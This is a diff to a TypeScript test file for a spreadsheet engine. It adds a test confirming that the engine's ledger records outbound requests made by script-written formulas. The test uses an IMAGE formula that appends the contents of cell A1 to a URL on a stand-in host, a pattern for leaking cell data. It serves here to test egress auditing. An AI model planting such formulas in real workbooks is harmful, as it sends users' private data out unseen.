@@ -14,7 +14,7 @@ const one = { row: 1, column: 1, rows: 1, columns: 1 }
 function open(root: string | null = null) {
   const store = openStore({ root })
   const parts = { store, ledger: createLedger(clock), clock }
-  return { store, sheets: createSheets(parts), twin: createSheets(parts) }
+  return { store, ledger: parts.ledger, sheets: createSheets(parts), twin: createSheets(parts) }
 }
 
 test('two that hold one store see each other’s changes', () => {
@@ -28,6 +28,21 @@ test('two that hold one store see each other’s changes', () => {
   if (!calculated.ok || !workbook.ok) throw new Error('It is gone.')
   const [sheet] = workbook.value.sheets
   expect(sheet && calculated.value.value(sheet, 1, 1)).toBe(2)
+  store.dispose()
+})
+
+test('an address that a script writes into a formula is what leaves, with the cells that it is made of', () => {
+  const { store, sheets, ledger } = open()
+  const { id } = sheets.create(by, { title: 'Pictures' })
+  const loading = '=IF(A1="", IMAGE("https://draw.example/empty"), IMAGE("https://draw.example/?text=" & A1))'
+  sheets.type(by, id, 0, one, 'secret')
+  sheets.type(by, id, 0, { ...one, row: 2 }, loading)
+  sheets.change({ ...by, app: 'script' }, id, (edit) => edit.setCell(0, 3, 1, { formula: loading }))
+  sheets.change({ ...by, app: 'script' }, id, (edit) => edit.setCell(0, 4, 1, { formula: '=LEN(A1)' }))
+  const left = ledger.entries().filter(({ channel }) => channel === 'egress')
+  expect(left.map(({ summary, app }) => `${app}: ${summary}`)).toEqual([
+    'script: GET https://draw.example/?text=secret',
+  ])
   store.dispose()
 })
 
